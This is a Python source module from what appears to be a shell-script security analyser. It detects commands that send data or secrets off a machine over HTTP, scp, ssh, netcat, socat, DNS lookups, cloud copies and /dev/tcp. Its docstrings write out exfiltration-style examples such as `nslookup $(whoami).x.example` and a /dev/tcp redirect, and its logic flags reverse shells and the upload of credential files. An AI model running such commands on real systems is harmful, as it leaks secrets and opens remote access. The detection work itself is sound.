"""Commands that carry data off the machine: curl/wget requests, scp/rsync, sockets, cloud copies.

Every data-carrying request is reported as exfiltration with ``details``
host=<host> so the policy can allow the hosts in ``allowed_hosts``; ``source``
says what the payload is made of, and is absent when it is only constants
(``curl -d '{}'``: egress, not data leaving). A credential file, a secret
variable, the environment or a database dump sent (directly or through a pipe)
is ``shell.exfil-secret``, with ``credential`` (the secret variables whose
values are sent). ``carrier`` says where the secrets and the rest of the data
travel (``auth``, ``header``, ``body``, ``query``, ``url``, ``file``; request.py
reads a request's parts): ``auth`` alone is a request that only authenticates
with its credentials. Plain downloads are only recorded as host touches.
"""
from __future__ import annotations

import re
from collections.abc import Callable
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

from .args import parse_args, subcommand_rest
from .flow import argv_of, secrets_of_argv, secrets_of_words, unwrap
from .knowledge import Entry, Knowledge, glob_any
from .reentry import run_script, run_string
from .request import BODY, FILE, PAYLOAD, STDIN_FILES, Request, http_request, httpie_request, payload_data, place
from .state import CommandContext, Secret, Unit
from .words import Word, variants

# A secret and where it travels (request.py's carriers).
Sent = tuple[str, Secret]
# Data sent that is not made of constants: where it travels, and what it is.
Data = tuple[str, str]

if TYPE_CHECKING:  # pragma: no cover - typing only
    from tree_sitter import Node

_SCP_REMOTE = re.compile(r"^(?:[^@/:\s]+@)?(\[[^\]]+\]|[^@/:\s]+):")


def host_of(know: Knowledge, text: str) -> str:
    """The host of a URL, ``user@host:path`` or bare ``host[:port]``; the text itself when unclear.
    A storage URL (``s3://bucket/key``) names its bucket with the scheme."""
    if "://" in text:
        parts = urlsplit(text)
        if parts.scheme in know.list("storage_schemes"):
            return f"{parts.scheme}://{parts.netloc}"
        return parts.hostname or text
    match = _SCP_REMOTE.match(text)
    if match:
        return match.group(1).strip("[]")
    head = text.split("/", 1)[0]
    return (head.rsplit("@", 1)[-1].split(":", 1)[0]) or text


def network(unit: Unit, program: str, rest: list[Word], ctx: CommandContext) -> None:
    spec = unit.know.lookup("network", program)
    if spec is None:
        return
    handler = _KINDS.get(str(spec.get("kind")))
    if handler is not None:
        # `API=http://localhost:8080; [ -n "$CI" ] && API=http://127.0.0.1:9000; curl "$API/x"`
        for variant in variants(rest):
            handler(unit, program, spec, variant, ctx)


def _send(unit: Unit, ctx: CommandContext, program: str, host: str, sent: list[Sent], data: list[Data],
          carriers: tuple[str, ...] = (BODY,)) -> None:
    """One operation for what a command sends to ``host``: exfil-secret when a secret travels,
    else exfil-upload. ``source`` names the secrets and the data that is not only constants
    (absent for a constant payload), ``credential`` the secret variables among them, ``carrier``
    where they travel (where the payload goes when it is only constants: ``carriers``), and
    ``payload`` is ``constant`` when nothing but constants travels besides the secrets named."""
    places = sorted({carrier for carrier, _ in sent} | {carrier for carrier, _ in data}) or sorted(set(carriers))
    source = ", ".join(dict.fromkeys([secret.description for _, secret in sent] + [what for _, what in data]))
    unit.report("shell.exfil-secret" if sent else "shell.exfil-upload", ctx, [host], verb="send", command=program,
                details={"host": host, "sink": program, "source": source[:160] or None, "carrier": ",".join(places),
                         "credential": ",".join(sorted({s.variable for _, s in sent if s.variable})),
                         "payload": "data" if data else "constant"})


def _stdin_secrets(ctx: CommandContext, carrier: str = BODY) -> list[Sent]:
    return [(carrier, secret) for secret in ctx.stdin.secrets] if ctx.stdin is not None else []


def _through(carrier: str, secrets: list[Secret]) -> list[Sent]:
    return [(carrier, secret) for secret in secrets]


# -- http ---------------------------------------------------------------------------------


def _http(unit: Unit, program: str, spec: Entry, rest: list[Word], ctx: CommandContext) -> None:
    args = parse_args(rest, spec.get("options_with_arg", []))
    request = http_request(unit.know, spec, args)
    urls = request.urls
    host = host_of(unit.know, urls[0]) if urls else "an unknown host"
    methods = [w.value for flag in spec.get("method_flags", []) for w in args.flag_words.get(flag, [])]
    if any(m is not None and m.upper() in spec.get("delete_methods", []) for m in methods):
        unit.report("shell.http-delete", ctx, [urls[0] if urls else "?"], verb="delete",
                    details={"host": host}, command=program)
    _request(unit, program, spec, request, host, ctx)


def _httpie(unit: Unit, program: str, spec: Entry, rest: list[Word], ctx: CommandContext) -> None:
    args = parse_args(rest, spec.get("options_with_arg", []))
    request = httpie_request(unit.know, spec, args, ctx.stdin)
    if request is not None:
        _request(unit, program, spec, request, host_of(unit.know, request.urls[0]), ctx)


def _request(unit: Unit, program: str, spec: Entry, request: Request, host: str, ctx: CommandContext) -> None:
    """Report a request that sends secrets or a payload; a plain download is a host touch."""
    sent = _request_secrets(unit, spec, request, ctx)
    if not sent and not request.payload:
        for url in request.urls:
            unit.add_touch("host", host_of(unit.know, url), "read", ctx.node)
        return
    _send(unit, ctx, program, host, sent, payload_data(request.parts, ctx.stdin),
          tuple(part.carrier for part in request.parts if part.carrier in PAYLOAD))


def _request_secrets(unit: Unit, spec: Entry, request: Request, ctx: CommandContext) -> list[Sent]:
    """Every secret a request sends, with its carrier: secret variables and credential files in
    its words, the files it reads (a credential path after `file_prefixes` counts too: wget sends
    `@path` literally, yet the path is in the request), and a secret fed to its standard input."""
    prefixes = "".join(spec.get("file_prefixes", []))
    named = re.compile("[" + re.escape(prefixes) + "]([^;,]+)") if prefixes else None  # `-F f=@path;type=x`
    sent: list[Sent] = []
    for part in request.parts:
        if part.reads in STDIN_FILES:
            sent += _stdin_secrets(ctx, part.carrier)
        paths = [part.reads] if part.reads else []
        if named is not None and part.carrier in PAYLOAD:
            paths += named.findall(part.text)
        sent += [(part.carrier, Secret(f"the credential file {path.strip()}")) for path in paths
                 if unit.know.is_credential_path(path.strip())]
        if part.word is not None:
            sent += [(place(part, secret), secret) for secret in secrets_of_words(unit, [part.word])]
    return sent


# -- copies, sessions, sockets ------------------------------------------------------------------


def _copy(unit: Unit, program: str, spec: Entry, rest: list[Word], ctx: CommandContext) -> None:
    args = parse_args(rest, spec.get("options_with_arg", []))
    operands = args.operands
    if len(operands) < 2:
        return
    dest, sources = operands[-1], operands[:-1]
    if not _is_remote_path(dest.shown) or all(_is_remote_path(s.shown) for s in sources):
        for word in sources:
            if _is_remote_path(word.shown):
                unit.add_touch("host", host_of(unit.know, word.shown), "read", ctx.node)
        return
    _send(unit, ctx, program, host_of(unit.know, dest.shown), _through(FILE, secrets_of_words(unit, sources)),
          [(FILE, ", ".join(s.shown for s in sources))])


def _is_remote_path(text: str) -> bool:
    """``host:path``, ``user@host:path`` or a URL (``rsync://host/x``); a local path may hold a colon."""
    return bool(_SCP_REMOTE.match(text)) and not text.startswith(("/", "./", "~/"))


def _session(unit: Unit, program: str, spec: Entry, rest: list[Word], ctx: CommandContext) -> None:
    args = parse_args(rest, spec.get("options_with_arg", []) + spec.get("batch_flags", []))
    if not args.operands:
        return
    stdin = ctx.stdin
    sending = "|".join(re.escape(str(c)) for c in spec.get("upload_commands", []))
    uploads = args.has(spec.get("batch_flags", [])) or (stdin is not None and (
        stdin.constant is None or bool(sending) and re.search(r"(?m)^\s*(?:" + sending + r")\b", stdin.constant)))
    if uploads:
        _send(unit, ctx, program, host_of(unit.know, args.operands[0].shown), _stdin_secrets(ctx, FILE),
              [(FILE, stdin.producer if stdin is not None else "a batch file")])


def _stream(unit: Unit, program: str, spec: Entry, rest: list[Word], ctx: CommandContext) -> None:
    args = parse_args(rest, spec.get("options_with_arg", []))
    if args.has(spec.get("listen_flags", [])) or args.has(spec.get("scan_flags", [])) or not args.operands:
        return
    host = host_of(unit.know, args.operands[0].shown)
    if args.has(spec.get("exec_flags", [])):
        _send(unit, ctx, program, host, [(BODY, Secret("a shell (reverse shell)"))], [])
    elif ctx.stdin is not None:
        source = _stdin_source(ctx)
        _send(unit, ctx, program, host, _stdin_secrets(ctx), [(BODY, source)] if source else [])


def _socat(unit: Unit, program: str, spec: Entry, rest: list[Word], ctx: CommandContext) -> None:
    addresses = [w.shown for w in rest if not w.shown.startswith("-") or w.shown == "-"]
    kinds = "|".join(re.escape(str(k)) for k in spec.get("remote_address_types", []))
    remote = [a for a in addresses if kinds and re.match(r"(?i)(?:" + kinds + r")[46]?(-connect)?:", a)]
    local = [a for a in addresses if a not in remote]
    if remote and local:
        host = remote[0].split(":", 2)[1] if remote[0].count(":") >= 1 else remote[0]
        files = [a.split(":", 1)[1] for a in local if ":" in a and unit.know.is_credential_path(a.split(":", 1)[1])]
        sent = _stdin_secrets(ctx) + [(FILE, Secret(f"the credential file {path}")) for path in files]
        _send(unit, ctx, program, host, sent, [(BODY, ", ".join(local))])


def _remote_shell(unit: Unit, program: str, spec: Entry, rest: list[Word], ctx: CommandContext) -> None:
    """``ssh host 'cmd'`` runs cmd there (analysed as shell); piped input is sent to the host."""
    # ssh's options end at the host: `ssh host rm -rf /x` gives -rf to rm, not to ssh
    takes = set(spec.get("options_with_arg", []))
    index = 0
    while index < len(rest) and rest[index].shown.startswith("-") and rest[index].shown != "--":
        index += 2 if rest[index].shown in takes else 1
    if index < len(rest) and rest[index].shown == "--":
        index += 1
    if index >= len(rest):
        return
    host = host_of(unit.know, rest[index].shown)
    # OpenSSH reads options after the host too (`ssh host -t cmd`), and a `--` ends them
    index += 1
    while index < len(rest) and rest[index].shown.startswith("-") and rest[index].shown != "--":
        index += 2 if rest[index].shown in takes else 1
    if index < len(rest) and rest[index].shown == "--":
        index += 1
    remote = rest[index:]
    if remote:
        joined = " ".join(w.shown for w in remote)
        value = joined if all(w.known for w in remote) else None
        run_string(unit, program, Word(value, joined, remote[0].node, quoted=remote[0].quoted), ctx)
    stdin = ctx.stdin
    if stdin is None:
        return
    if stdin.constant is None:
        _send(unit, ctx, program, host, _stdin_secrets(ctx), [(BODY, stdin.producer)])
    if remote and not _shell_reading_stdin(unit, remote):
        return
    # the login shell (or `bash -s`) there runs what it is fed: a heredoc, or a script of the tree
    if stdin.constant is not None:
        unit.embedded("shell", stdin.constant, stdin.origin or unit.node_location(ctx.node), hint=program,
                      at=unit.node_location(ctx.node) if stdin.pinned else None)
    elif stdin.file is not None and not any(c in stdin.file for c in "$`*?["):
        found = run_script(unit, "shell", stdin.file, ctx, program)
        if found is not None:
            unit.analysis.extend(found)


def _shell_reading_stdin(unit: Unit, remote: list[Word]) -> bool:
    """Whether a remote command is a shell that runs its standard input (``bash -s``, ``sh``)."""
    words = " ".join(w.shown for w in remote).split()
    while words and (words[0].startswith("-") or unit.know.lookup("wrappers", words[0]) is not None):
        words = words[1:]  # `sudo bash -s`
    spec = unit.know.lookup("interpreters", words[0].rsplit("/", 1)[-1]) if words else None
    return spec is not None and spec.get("language") == "shell" and \
        all(w.startswith("-") and w not in spec.get("code_flags", []) for w in words[1:])


def _dns(unit: Unit, program: str, spec: Entry, rest: list[Word], ctx: CommandContext) -> None:
    """``nslookup $(whoami).x.example``: a name looked up carries its labels to the servers of
    the domain it ends in. A name with a part made at run time (a substitution, a variable)
    before a constant domain sends that part there; a constant name, or one all of whose value
    is a variable (a configured host), sends nothing."""
    args = parse_args(rest, spec.get("options_with_arg", []))
    marker = ctx.placeholder or ""
    for word in args.operands:
        if word.value is not None or word.shown.startswith("@"):
            continue
        # `... | xargs -I{} dig {}.x.example`: each input line is a label made at run time
        fed = bool(marker) and marker in word.text
        text = word.text.replace(marker, "$(xargs)") if fed else word.text
        domain = _constant_suffix(text)
        if "." not in domain.strip(".") or domain.strip(".") == text:
            continue
        secrets = [(URL_CARRIER, secret) for secret in secrets_of_words(unit, [word])]
        if fed:
            secrets += _stdin_secrets(ctx, URL_CARRIER)
        if not secrets and not word.substitutions and not fed:
            continue  # "$SVC.ns.svc.cluster.local": a configured name, not data
        data = [] if secrets else [(URL_CARRIER, f"the looked-up name {word.text}")]
        _send(unit, ctx, program, domain.strip("."), secrets, data)


def _constant_suffix(text: str) -> str:
    """The constant end of a word after its last expansion (``$(id -u).x.example`` -> ``.x.example``)."""
    ends = [m.end() for m in _EXPANSION_END.finditer(text)]
    return text[max(ends):].strip("\"'") if ends else ""


# The end of an expansion in a word as written: $(...), `...`, ${...}, $name.
_EXPANSION_END = re.compile(r"\$\((?:[^()]|\([^()]*\))*\)|`[^`]*`|\$\{[^}]*\}|\$[A-Za-z_][A-Za-z0-9_]*|\$[0-9@*#?]")
URL_CARRIER = "url"


def _remote_module(unit: Unit, program: str, spec: Entry, rest: list[Word], ctx: CommandContext) -> None:
    """``ansible hosts -m shell -a 'cmd'``: the argument of a shell-running module runs on every host."""
    args = parse_args(rest, spec.get("options_with_arg", []))
    modules = [w.value for flag in spec.get("module_flags", []) for w in args.flag_words.get(flag, [])]
    if not any(m in spec.get("shell_modules", ()) for m in modules):
        return
    for flag in spec.get("argument_flags", []):
        for word in args.flag_words.get(flag, []):
            run_string(unit, program, word, ctx)


def _cloud_copy(unit: Unit, program: str, spec: Entry, rest: list[Word], ctx: CommandContext) -> None:
    args = parse_args(rest, spec.get("options_with_arg", []))
    for path in spec.get("subcommands", []):
        operands = subcommand_rest({"subcommand": path}, args)
        if operands is None or len(operands) < 2:
            continue
        dest, sources = operands[-1], operands[:-1]
        remote = [str(p) for p in spec.get("remote", [])]
        if glob_any(dest.shown, remote) and not all(glob_any(s.shown, remote) for s in sources):
            sent = _through(FILE, secrets_of_words(unit, sources))
            if any(s.shown == "-" for s in sources):
                sent += _stdin_secrets(ctx, FILE)
            _send(unit, ctx, program, host_of(unit.know, dest.shown), sent,
                  [(FILE, ", ".join(s.shown for s in sources))])
            unit.add_touch("bucket", host_of(unit.know, dest.shown), "write", ctx.node)
        return


def _flag_upload(unit: Unit, program: str, spec: Entry, rest: list[Word], ctx: CommandContext) -> None:
    """``az storage blob upload --account-name A -c C -f data.csv``: an upload whose file and
    destination are options (`uploads`: the subcommand, `file_flags`, `place_flags` naming the
    account, `scheme` of the host), reported like a cloud copy."""
    args = parse_args(rest, spec.get("options_with_arg", []))
    for upload in spec.get("uploads", []):
        if subcommand_rest(upload, args) is None:
            continue
        sources = [w for flag in upload.get("file_flags", []) for w in args.flag_words.get(flag, [])]
        if not sources:
            continue
        places = [w.shown for flag in upload.get("place_flags", []) for w in args.flag_words.get(flag, [])]
        host = f"{upload.get('scheme', program)}://{places[0]}" if places else f"{program} storage"
        _send(unit, ctx, program, host, _through(FILE, secrets_of_words(unit, sources)),
              [(FILE, ", ".join(s.shown for s in sources))])
        unit.add_touch("bucket", host, "write", ctx.node)
        return


def redirect_exfil(unit: Unit, redirect: Node, node: Node, target: Word) -> bool:
    """``cmd > /dev/tcp/host/port``: bash opens a socket and the command's output goes there."""
    match = re.match(r"^/dev/(tcp|udp)/([^/]+)/", target.shown)
    if not match:
        return False
    secrets = secrets_of_argv(unit, unwrap(unit, argv_of(unit, node))) if node.type == "command" else []
    _send(unit, CommandContext(node, [redirect]), "/dev/" + match.group(1), match.group(2), _through(BODY, secrets),
          [(BODY, unit.evidence(node))])
    return True


def _stdin_source(ctx: CommandContext) -> str | None:
    """What feeds a command's standard input, unless it is a constant text (``echo PING | nc``)
    or secrets (which name it themselves)."""
    stdin = ctx.stdin
    if stdin is None or stdin.constant is not None or stdin.secrets:
        return None
    return stdin.producer


Handler = Callable[[Unit, str, Entry, list[Word], CommandContext], None]
_KINDS: dict[str, Handler] = {
    "http": _http, "httpie": _httpie, "copy": _copy, "session": _session, "stream": _stream, "socat": _socat,
    "remote_shell": _remote_shell, "remote_module": _remote_module, "cloud_copy": _cloud_copy, "dns": _dns,
          "flag_upload": _flag_upload}
